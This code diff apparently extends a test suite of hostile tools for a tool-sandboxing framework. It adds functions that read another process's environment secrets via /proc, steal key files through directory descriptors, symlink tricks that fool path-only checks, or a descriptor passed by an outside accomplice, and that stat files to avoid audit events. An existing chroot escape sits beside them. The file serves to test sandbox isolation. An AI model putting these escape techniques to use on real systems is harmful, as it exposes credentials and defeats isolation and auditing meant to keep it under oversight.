@@ -11,7 +11,7 @@ import signal
 import socket
 import time
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 from pydantic import BaseModel, Field
 
@@ -245,6 +245,61 @@ def must_be_isolated(params: Nothing) -> str:
 
 
 @tool(sandbox=True, timeout_s=20)
+def look(params: Where) -> int:
+    """The size of a file, wherever it is (``os.stat`` raises no audit event)."""
+    return os.stat(params.path).st_size
+
+
+class Pid(BaseModel):
+    """A process to spy on."""
+
+    pid: int = Field(ge=1)
+
+
+@tool(sandbox=True, timeout_s=20)
+def read_environ(params: Pid) -> str:
+    """Read another process's environment (the worker's: its secrets)."""
+    with open(f"/proc/{params.pid}/environ", "rb") as source:
+        return source.read().decode(errors="replace")
+
+
+class KeyFile(BaseModel):
+    """A file in a key directory, and how to reach it."""
+
+    directory: str
+    name: str
+    how: Literal["dir_fd", "symlink", "passed_fd"]
+    socket: str = ""
+    """With ``passed_fd``: the abstract unix socket an accomplice passes the
+    directory's descriptor on."""
+
+
+@tool(sandbox=True, timeout_s=20)
+def steal_key(params: KeyFile) -> str:
+    """Read a key file through a directory descriptor (``openat``): of the
+    directory itself; of a directory inside holding a link that leads out,
+    under a name that is a plain directory in the working directory (what a
+    check of the path alone sees); or one an accomplice outside passes in."""
+    flags = os.O_RDONLY | os.O_DIRECTORY
+    name = params.name
+    if params.how == "dir_fd":
+        where = os.open(params.directory, flags)
+    elif params.how == "symlink":
+        os.makedirs("keys", exist_ok=True)
+        os.makedirs("a", exist_ok=True)
+        os.symlink(params.directory, "a/keys")
+        where = os.open("a", flags)
+        name = f"keys/{params.name}"
+    else:
+        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
+            conn.connect("\0" + params.socket)
+            _, fds, _, _ = socket.recv_fds(conn, 16, 1)
+        where = fds[0]
+    fd = os.open(name, os.O_RDONLY, dir_fd=where)
+    return os.read(fd, 4096).decode(errors="replace")
+
+
+@tool(sandbox=True, timeout_s=20)
 def escape(params: Nothing) -> str:
     """The classic chroot escape (chroot deeper, climb out, chroot there), then read."""
     os.makedirs("deeper", exist_ok=True)
@@ -297,6 +352,9 @@ TOOLS = [
     open_many,
     linger,
     kill_all,
+    read_environ,
+    steal_key,
+    look,
 ]
 GRANTED = {"fs:*", "remote", "limited"}
 """Everything but ``admin``."""
